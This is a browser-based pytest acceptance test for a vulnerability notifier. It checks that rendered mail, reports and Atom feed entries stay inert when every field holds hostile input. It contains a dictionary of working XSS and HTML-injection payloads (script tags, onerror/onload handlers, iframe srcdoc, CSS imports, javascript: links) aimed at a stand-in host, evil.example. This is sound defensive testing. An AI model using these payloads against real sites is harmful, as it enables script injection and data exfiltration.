"""Every attack string in every field of mail, report and feed, opened in Chromium: nothing runs, is asked or breaks.

What is asked is read in the browser's own log of its network, and on a server to which it resolves every name.
Needs Chromium: `make browser` installs it from Debian and runs this; elsewhere it is skipped, saying so.
"""

from __future__ import annotations

import html
import json
import re
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import pytest

from feeds.advisories.records import Severity
from feeds.sources.health import SourceHealth, SourceState
from notifier.assessment.findings import Finding
from notifier.assessment.matcher import Match
from notifier.assessment.upgrade_plans import Option, Plan, Way
from notifier.channels import MessageSender
from notifier.domain.components import Component
from notifier.domain.messages import Target
from notifier.rendering.messages import page, render
from notifier.rendering.report import ReportStep, matrices
from tests.acceptance.cli.test_hostile_terminal import NASTY
from tests.integration.notifier.rendering.test_browser import CHROMIUM, chromium
from tests.support.loopback import Receiver, over_http
from tests.support.samples import START, advisory
from tests.unit.notifier.rendering.test_hostile_values import PAYLOADS, SCHEMES, everywhere
from tests.unit.notifier.rendering.test_report import FOUND, report

EVIL = "http://evil.example"
MARK = "top.document.documentElement.dataset.owned=1"
MAKER = (".google.com", ".googleapis.com", ".gstatic.com", ".gvt1.com")
"""Where Chromium itself asks; no attack string names them."""
ASKING = {
    "script": f"<script src={EVIL}/s.js></script><script>{MARK}</script>",
    "image": f'"><img src="{EVIL}/i.png" onerror="{MARK}" onload="{MARK}">',
    "picture": f"'><picture><source srcset={EVIL}/p.png><img src=x onerror={MARK}></picture>",
    "vector": f"<svg onload={MARK}><image href={EVIL}/v.png /><use href={EVIL}/u.svg#x /></svg>",
    "frame": f"<iframe src={EVIL}/f></iframe><iframe srcdoc='<script>{MARK}</script>'></iframe>",
    "style": f"</style><style>@import '{EVIL}/c.css'; *{{background:url({EVIL}/b.png)}}</style>",
    "attribute": f'" style="background:url({EVIL}/a.png)" onmouseover="{MARK}" autofocus onfocus="{MARK}" x="',
    "sheet": f"<link rel=stylesheet href={EVIL}/l.css><link rel=prefetch href={EVIL}/pre><link rel=icon href={EVIL}/i>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/r'><base href={EVIL}/base/>",
    "object": f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    "video": f"<video poster={EVIL}/vp src={EVIL}/vs autoplay></video><audio src={EVIL}/au autoplay></audio>",
    "form": f"<form action={EVIL}/form><input type=image src={EVIL}/in autofocus onfocus={MARK}></form>",
    "closing": f"--></textarea></title></noscript></xmp></template><img src={EVIL}/after.png onerror={MARK}>",
    "opening": "<!-- <style> <textarea> <title> <plaintext> <table><tr><td><select><math><template>",
    "entities": f"&lt;img src={EVIL}/ent.png&gt; &#60;script&#62;{MARK}&#60;/script&#62; &#x3c;img src={EVIL}/x&#x3e;",
    "template": f"{{{{ '<img src={EVIL}/t.png>'|safe }}}} {{% raw %}} ${{ {MARK} }}",
    "markdown": f"![x]({EVIL}/m.png) [y](javascript:{MARK}) <javascript:{MARK}>",
    "long": "A" * 600,
    "address": f"{EVIL}/" + "path-" * 120,
    "wide": "\u00a0" * 300 + "\ufdfd" * 40,
    "high": "Z" + "\u0301\u0489" * 60,
    "nasty": NASTY,
}
ATTACKS = {
    **ASKING,
    **{f"also {name}": text.replace("alert(1)", MARK) for name, text in PAYLOADS.items()},
    **{f"scheme {n}": text.replace("alert(1)", MARK) for n, text in enumerate(SCHEMES) if text},
}
LOOK = """<!doctype html><meta charset=utf-8><body style="margin:0">{frames}
<pre id=said></pre>
<script>
addEventListener("load", () => {{
  const said = [...document.querySelectorAll("iframe")].map(frame => {{
    const page = frame.contentDocument, width = frame.clientWidth;
    const beyond = e => e.getBoundingClientRect().right > width + 1;
    const wide = [...page.querySelectorAll("body *")].filter(beyond);
    const names = [...page.querySelectorAll("*")].flatMap(e => e.getAttributeNames());
    const tags = {{}};
    for (const e of page.querySelectorAll("*")) tags[e.tagName] = (tags[e.tagName] || 0) + 1;
    return {{
      name: frame.title,
      place: frame.contentWindow.location.href,
      width: page.documentElement.scrollWidth,
      wide: wide.slice(0, 5).map(e => e.tagName + ": " + e.textContent.slice(0, 60)),
      tags,
      handlers: names.filter(n => n.startsWith("on")).length,
      links: [...page.querySelectorAll("a")].map(e => e.protocol),
      text: page.body.innerText.length,
    }};
  }});
  document.getElementById("said").textContent = JSON.stringify(said);
}});
</script>"""

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed: `make browser` installs it"),
]


@pytest.fixture
def evil() -> Iterator[Receiver]:
    """Where every name leads."""
    with over_http() as server:
        yield server


def mail(text: str) -> str:
    return render(everywhere(text, f"{EVIL}/link", welcome=False)).html


def welcome(text: str) -> str:
    return render(everywhere(text, f"{EVIL}/link", welcome=True)).html


def full_report(text: str) -> str:
    """A report with the text wherever a source, a host or a user can put one."""
    about = advisory(1, text, title=text, url=f"{EVIL}/link", severity=Severity.CRITICAL, aliases=(text,))
    verdict = replace(FOUND[0].match.verdict, reason=text, fixed_in=(text,), upgrade_to=text)
    match = Match(Component("engine", "25.0.5", text, text), about, verdict)
    option = Option(way=Way.OWN_LINE, to=text, closes=(about,), leaves=(), command=text)
    plan = Plan(match.component, None, None, (match,), (), (option,))
    return page(
        report(
            about=text,
            matrices=matrices([Finding(1, match, 3)], {text: 3}, lambda _: (text,)),
            steps=(ReportStep(plan, 7, (text, text)),),
            sources=(SourceState(text, SourceHealth.FAILING, text, 3, 12, START, START),),
        )
    )


def entry(text: str) -> str:
    """What a reader of feeds shows of an entry of the Atom feed."""
    with tempfile.TemporaryDirectory() as folder, MessageSender() as courier:
        place = Path(folder, "feed.xml")
        courier.deliver(Target(f"atom://{place}"), render(everywhere(text, f"{EVIL}/link", welcome=False)))
        content = ET.parse(place).find(".//{http://www.w3.org/2005/Atom}content")  # noqa: S314 - our own
    assert content is not None
    assert content.get("type") == "html"
    return str(content.text)


def looked_at(pages: dict[str, str], width: int, evil: Receiver, folder: Path) -> tuple[list[Any], set[str], bool]:
    """What a browser says of each page in a frame so wide, what it asked for, and whether a script ran."""
    frames = "".join(
        f'<iframe title="{html.escape(name)}" style="border:0;display:block;width:{width}px;height:3000px" '
        f'srcdoc="{html.escape(text)}"></iframe>'
        for name, text in pages.items()
    )
    at, log = folder / "pages.html", folder / "net.json"
    at.write_text(LOOK.format(frames=frames), encoding="utf-8")
    server = evil.url.removeprefix("http://")
    rules = f"--host-resolver-rules=MAP * {server}"
    dom = chromium(at, folder / "profile", "--dump-dom", rules, f"--log-net-log={log}", "--window-size=1400,900")
    found = re.search(r'<pre id="said">(.*?)</pre>', dom, re.DOTALL)
    assert found
    assert found[1], dom[-500:]
    ran = re.search(r"<html[^>]*data-owned", dom) is not None
    return json.loads(html.unescape(found[1])), asked(log), ran


def asked(log: Path) -> set[str]:
    """The addresses on the web that the log of a browser's network has, without those of its maker, which it asks."""
    text = log.read_text(encoding="utf-8", errors="replace")
    found = {url for url in re.findall(r'"url":"([a-z]+://[^"]*)"', text) if url.startswith(("http", "ws", "ftp"))}
    return {url for url in found if not (urlsplit(url).hostname or "").endswith(MAKER)}


PAGES = {"mail": mail, "welcome": welcome, "report": full_report, "entry": entry}


@pytest.mark.parametrize("width", [360, 700, 1280])
def test_no_attack_string_runs_asks_or_breaks_anything(width: int, evil: Receiver, tmp_path: Path) -> None:
    texts = {"harmless": "harmless", **ATTACKS}
    pages = {f"{kind}: {name}": make(text) for kind, make in PAGES.items() for name, text in texts.items()}
    said, urls, ran = looked_at(pages, width, evil, tmp_path)
    assert not ran
    assert not [text for text in ATTACKS.values() if any(host in text for host in MAKER)]
    assert urls == set()
    assert [h["host"] for h in evil.headers if not h["host"].endswith(MAKER)] == []
    assert [s["name"] for s in said] == list(pages)
    usual = {s["name"].partition(":")[0]: s["tags"] for s in said if s["name"].endswith(": harmless")}
    for one in said:
        assert one["place"] == "about:srcdoc", one["name"]
        assert one["tags"] == usual[one["name"].partition(":")[0]], one["name"]
        assert one["handlers"] == 0
        assert set(one["links"]) <= {"http:"}
        assert one["width"] <= width, (one["name"], one["wide"])
        assert one["text"] > 200


def test_the_same_strings_as_markup_do_all_of_that(evil: Receiver, tmp_path: Path) -> None:
    pages = {name: f"<p>harmless</p><div>{text}</div>" for name, text in ASKING.items() if name != "refresh"}
    said, urls, ran = looked_at({"harmless": "<p>harmless</p><div></div>", **pages}, 360, evil, tmp_path)
    assert ran
    assert len(urls) > 5
    assert len(evil.paths) > 5
    assert any(s["tags"] != said[0]["tags"] for s in said)
    assert any(s["width"] > 360 for s in said)
